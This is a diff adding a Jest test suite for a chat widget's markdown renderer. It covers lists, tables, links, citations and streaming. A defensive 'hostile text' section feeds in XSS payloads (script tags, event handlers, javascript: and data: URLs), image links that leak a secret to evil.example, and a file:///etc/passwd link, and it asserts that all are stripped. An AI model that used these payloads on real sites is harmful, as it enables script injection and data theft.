@@ -1,0 +1,364 @@
+/** @jest-environment jsdom */
+import { describe, expect, test } from '@jest/globals';
+import fc from 'fast-check';
+import type { Source } from '../../server/contract/chat.ts';
+import { createMarkdown } from '../../widget/markdown.ts';
+import { englishStrings } from '../../widget/strings.ts';
+import { source } from './browser.ts';
+
+const copyCode = () => document.createElement('button');
+
+function view() {
+  const root = document.createElement('div');
+  return { root, render: createMarkdown(root, englishStrings, copyCode) };
+}
+
+const everyNode = new Set(['dir', 'target', 'rel']);
+
+/** As markup, without what every node or link has: the tables below show what matters. */
+function plain(root: Node): string {
+  return [...root.childNodes]
+    .map((node) => {
+      if (!(node instanceof Element)) return node.textContent ?? '';
+      if (node.className === 'spoken') return '';
+      const name = node.localName;
+      const attributes = [...node.attributes].filter((attribute) => !everyNode.has(attribute.name));
+      const shown = attributes
+        .map((attribute) => ` ${attribute.name}="${attribute.value}"`)
+        .join('');
+      const end =
+        node instanceof HTMLHRElement || node instanceof HTMLBRElement ? '' : `</${name}>`;
+      return `<${name}${shown}>${plain(node)}${end}`;
+    })
+    .join('');
+}
+
+function html(text: string, sources: readonly Source[] = [], partial = false): string {
+  const { root, render } = view();
+  render(text, sources, partial);
+  return plain(root);
+}
+
+describe('blocks', () => {
+  test.each([
+    ['paragraphs and line breaks', 'a\nb\n\nc', '<p>a<br>b</p><p>c</p>'],
+    ['headings, all of one level', '# A\n###### B ##\n#C', '<h3>A</h3><h3>B</h3><p>#C</p>'],
+    ['a rule', 'a\n\n---\n***\n', '<p>a</p><hr><hr>'],
+    ['a quote with a list', '> a\n> - b', '<blockquote><p>a</p><ul><li>b</li></ul></blockquote>'],
+    ['a list of two levels', '- a\n  - b\n- c', '<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>'],
+    [
+      'an ordered list that goes on after a blank line',
+      '3. a\n\n4. b',
+      '<ol start="3"><li>a</li><li>b</li></ol>',
+    ],
+    ['bullets below a number', '1. a\n   * b', '<ol start="1"><li>a<ul><li>b</li></ul></li></ol>'],
+    ['a second paragraph of an item', '- a\n\n  b', '<ul><li>a<p>b</p></li></ul>'],
+    ['a line that goes on', '- a\nb', '<ul><li>a<br>b</li></ul>'],
+    ['another kind of list', '- a\n1. b', '<ul><li>a</li></ul><ol start="1"><li>b</li></ol>'],
+    ['a list after a line', 'a:\n- b', '<p>a:</p><ul><li>b</li></ul>'],
+    ['a year is no list', 'since\n2024. Then', '<p>since<br>2024. Then</p>'],
+    ['stars that are no list', '*a* b', '<p><em>a</em> b</p>'],
+  ])('%s', (_, text, expected) => {
+    expect(html(text)).toBe(expected);
+  });
+
+  test('a fence keeps its text, with a header for its language', () => {
+    const { root, render } = view();
+    render('```js x\n<b>1</b>\n  **2**\n```\nafter', [], false);
+    expect(root.querySelector('.code-header')?.textContent).toBe('js');
+    expect(root.querySelector('pre code')?.textContent).toBe('<b>1</b>\n  **2**');
+    expect(root.lastElementChild?.tagName).toBe('P');
+    expect(root.lastElementChild?.textContent).toBe('after');
+  });
+
+  test.each([
+    ['without its end', '```\na\n\n# b', 'a\n\n# b'],
+    ['of tildes, with backticks inside', '~~~\n```\n~~~', '```'],
+    ['longer than what is inside', '````\n```\n````', '```'],
+    ['indented, in a list', '- a\n  ```\n    b\n  ```', '  b'],
+  ])('a fence %s', (_, text, code) => {
+    const { root, render } = view();
+    render(text, [], false);
+    expect(root.querySelector('pre')?.textContent).toBe(code);
+  });
+
+  test('a table with alignment, short and long rows, and escaped pipes', () => {
+    const { root, render } = view();
+    render('| A | B |\n|:-:|--:|\n| **1** | x \\| y | z |\n| 2 |\nnot a row', [], false);
+    const rows = [...root.querySelectorAll('tr')].map((row) =>
+      [...row.children].map((cell) => `${cell.tagName} ${cell.textContent}`),
+    );
+    expect(rows).toEqual([
+      ['TH A', 'TH B'],
+      ['TD 1', 'TD x | y'],
+      ['TD 2', 'TD '],
+    ]);
+    expect(root.querySelector('td')?.style.textAlign).toBe('center');
+    expect(root.querySelector('td strong')?.textContent).toBe('1');
+    expect(root.lastElementChild?.textContent).toBe('not a row');
+  });
+});
+
+describe('inline', () => {
+  test.each([
+    ['**a** *b* ***c***', '<strong>a</strong> <em>b</em> <strong><em>c</em></strong>'],
+    ['__a__ _b_ ~~c~~', '<strong>a</strong> <em>b</em> <del>c</del>'],
+    ['**a *b* c**', '<strong>a <em>b</em> c</strong>'],
+    ['2 * 3 * 4 and snake_case_name', '2 * 3 * 4 and snake_case_name'],
+    ['**a and *b', '**a and *b'],
+    ['*a **b* c', '<em>a **b</em> c'],
+    ['*a **b** c*', '<em>a <strong>b</strong> c</em>'],
+    ['~a~ ****', '~a~ ****'],
+    ['`a` ``b ` c`` ` d', '<code>a</code> <code>b ` c</code> ` d'],
+    ['\\*a\\* \\[1]', '*a* [1]'],
+    ['**日本**語', '<strong>日本</strong>語'],
+  ])('%s', (text, expected) => {
+    expect(html(text)).toBe(`<p>${expected}</p>`);
+  });
+});
+
+describe('links', () => {
+  test('open apart from the page and tell the target nothing', () => {
+    const { root, render } = view();
+    render('[a **b**](https://example.org/x_(y) "title")', [], false);
+    const link = root.querySelector('a');
+    expect(link?.href).toBe('https://example.org/x_(y)');
+    expect(link?.rel).toBe('noopener nofollow');
+    expect(link?.target).toBe('_blank');
+    expect(link?.textContent).toBe('a b (opens in a new tab)');
+  });
+
+  test.each([
+    ['see https://example.org/a_b?c=d.', 'https://example.org/a_b?c=d'],
+    ['(https://example.org/x)', 'https://example.org/x'],
+    ['**https://example.org/**', 'https://example.org/'],
+    ['https://example.org/a_(b)!', 'https://example.org/a_(b)'],
+    ['https://example.org/x[1]', 'https://example.org/x'],
+    ['见https://example.org/x。', 'https://example.org/x'],
+    ['[mail](mailto:info@example.org)', 'mailto:info@example.org'],
+    ['[here](/contact)', 'http://localhost/contact'],
+  ])('%s', (text, href) => {
+    const { root, render } = view();
+    render(text, [source], false);
+    expect(root.querySelector('a')?.href).toBe(href);
+  });
+});
+
+describe('citations', () => {
+  test('a mark links to its source, with the title as tooltip', () => {
+    expect(html('Yes [1].', [source])).toBe(
+      '<p>Yes <sup><a href="https://example.org/hours/#:~:text=Open" title="Opening hours" ' +
+        'aria-label="Sources 1: Opening hours">1</a></sup>.</p>',
+    );
+  });
+
+  test.each([
+    ['a number without a source is text', 'a [2]', false, '<p>a [2]</p>'],
+    ['but may yet get one while it streams', 'a [2]', true, '<p>a <sup><span>2</span></sup></p>'],
+    [
+      'a link is not a mark',
+      '[1](https://example.org/)',
+      false,
+      '<p><a href="https://example.org/">1</a></p>',
+    ],
+    [
+      'neither is one inside a link',
+      '[a [1]](https://example.org/)',
+      false,
+      '<p><a href="https://example.org/">a [1]</a></p>',
+    ],
+    ['nor one in code', '`[1]`', false, '<p><code>[1]</code></p>'],
+  ])('%s', (_, text, partial, expected) => {
+    expect(html(text, [source], partial)).toBe(expected);
+  });
+
+  test('a source with an address that may not be opened is no link', () => {
+    const hostile = {
+      ...source,
+      url: 'javascript:alert(1)',
+      passage_url: undefined,
+    } as unknown as Source;
+    expect(html('[1]', [hostile])).toBe('<p><sup><span>1</span></sup></p>');
+  });
+});
+
+const allowedTags = new Set(
+  'P H3 HR BLOCKQUOTE UL OL LI DIV PRE CODE TABLE TR TH TD STRONG EM DEL SUP A SPAN BR BUTTON'.split(
+    ' ',
+  ),
+);
+const allowedAttributes = new Set(
+  'dir start class part tabindex href target rel title aria-label style'.split(' '),
+);
+
+function expectHarmless(root: HTMLElement): void {
+  for (const node of root.querySelectorAll('*')) {
+    expect(allowedTags).toContain(node.tagName);
+    for (const { name } of node.attributes) expect(allowedAttributes).toContain(name);
+    if (node instanceof HTMLAnchorElement) expect(node.href).toMatch(/^(https?|mailto):/);
+  }
+}
+
+describe('hostile text', () => {
+  test.each([
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '[a](javascript:alert(1))',
+    '[a](JaVaScRiPt:alert%281%29)',
+    '[a](java\tscript:alert(1))',
+    '[a](&#106;avascript:alert(1))',
+    '[a](data:text/html,<script>alert(1)</script>)',
+    '[a](vbscript:x)',
+    '[a](blob:https://example.org/1)',
+    '[a](<javascript:alert(1)>)',
+    '[a]("onmouseover="alert(1))',
+    '![x](https://evil.example/?q=secret)',
+    '[![x](https://evil.example/a.png)](https://evil.example/)',
+    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
+    '> - **[`<b>`](javascript:1)**\n>   ```html\n>   <iframe>',
+    '| <svg onload=alert(1)> |\n|---|\n| [x](file:///etc/passwd) |',
+    '```"><script>\n</code></pre><script>alert(1)</script>',
+    '<https://example.org/"onclick="alert(1)>',
+    '\0<b>\u202e[a](javascript:alert(1))',
+  ])('%s', (text) => {
+    const { root, render } = view();
+    for (const partial of [true, false]) {
+      render(text, [], partial);
+      expectHarmless(root);
+      expect(root.querySelector('img, script, svg, iframe')).toBeNull();
+    }
+  });
+
+  test('an image is a link, which nothing loads', () => {
+    expect(html('![map](https://example.org/m.png)')).toBe(
+      '<p><a href="https://example.org/m.png">map</a></p>',
+    );
+    expect(html('![](https://example.org/m.png)')).toBe(
+      '<p><a href="https://example.org/m.png">https://example.org/m.png</a></p>',
+    );
+  });
+
+  const piece = fc.constantFrom(
+    ...[
+      '*',
+      '**',
+      '_',
+      '~~',
+      '`',
+      '```',
+      '[',
+      ']',
+      '](',
+      '(',
+      ')',
+      '!',
+      '<',
+      '>',
+      '|',
+      '\n',
+      '\n\n',
+    ],
+    ...[
+      '- ',
+      '1. ',
+      '  ',
+      '> ',
+      '# ',
+      '---',
+      '|-|-|',
+      '[1]',
+      'a',
+      'b c',
+      'https://x.y',
+      '\\',
+      'é',
+      '😀',
+    ],
+    ...['javascript:x', '<img src=x>', 'data:,'],
+  );
+  const text = fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join(''));
+
+  test('any text gives only harmless nodes', () => {
+    fc.assert(
+      fc.property(text, fc.boolean(), (markdown, partial) => {
+        const { root, render } = view();
+        render(markdown, [source], partial);
+        expectHarmless(root);
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  const none: Source[] = [];
+
+  test('a text that came bit by bit ends as if it had come at once', () => {
+    fc.assert(
+      fc.property(text, fc.array(fc.nat(60), { maxLength: 5 }), (markdown, cuts) => {
+        const { root, render } = view();
+        for (const cut of cuts.sort((a, b) => a - b)) render(markdown.slice(0, cut), none, true);
+        render(markdown, [source], false);
+        expect(plain(root)).toBe(html(markdown, [source]));
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  test.each([
+    '*',
+    '**a ',
+    '_a',
+    '`',
+    '`` ` ',
+    '[',
+    '[a](',
+    '![',
+    '[1]',
+    '~~',
+    '> ',
+    '- ',
+    '|',
+    '|-',
+    '\n',
+    '(',
+    'https://a(',
+    '```\n',
+    '#',
+    ' ',
+  ])('many times %j takes little time', (unit) => {
+    const started = performance.now();
+    html(unit.repeat(8000 / unit.length), [source], true);
+    expect(performance.now() - started).toBeLessThan(3000);
+  });
+});
+
+describe('while it streams', () => {
+  test.each([
+    ['bold that is still open is bold', 'a **b c', '<p>a <strong>b c</strong></p>'],
+    ['a star may yet be a list or a product', 'a *b', '<p>a *b</p>'],
+    ['code that is still open is code', 'a `b', '<p>a <code>b</code></p>'],
+    ['nothing follows yet', 'a **', '<p>a **</p>'],
+  ])('%s', (_, text, expected) => {
+    expect(html(text, [], true)).toBe(expected);
+  });
+
+  test('only the last block is built again', () => {
+    const { root, render } = view();
+    const sources: Source[] = [];
+    render('First.\n\nSec', sources, true);
+    render('First.\n\nSecond **par', sources, true);
+    const [first] = root.children;
+    render('First.\n\nSecond **part**\n\n- list', sources, true);
+    expect(root.children[0]).toBe(first);
+    expect(plain(root)).toBe(
+      '<p>First.</p><p>Second <strong>part</strong></p><ul><li>list</li></ul>',
+    );
+  });
+
+  test('the sources, when they come, turn marks into links', () => {
+    const { root, render } = view();
+    render('Yes [1].', [], true);
+    expect(root.querySelector('a')).toBeNull();
+    render('Yes [1].', [source], true);
+    expect(root.querySelector('a')?.textContent).toBe('1');
+  });
+});
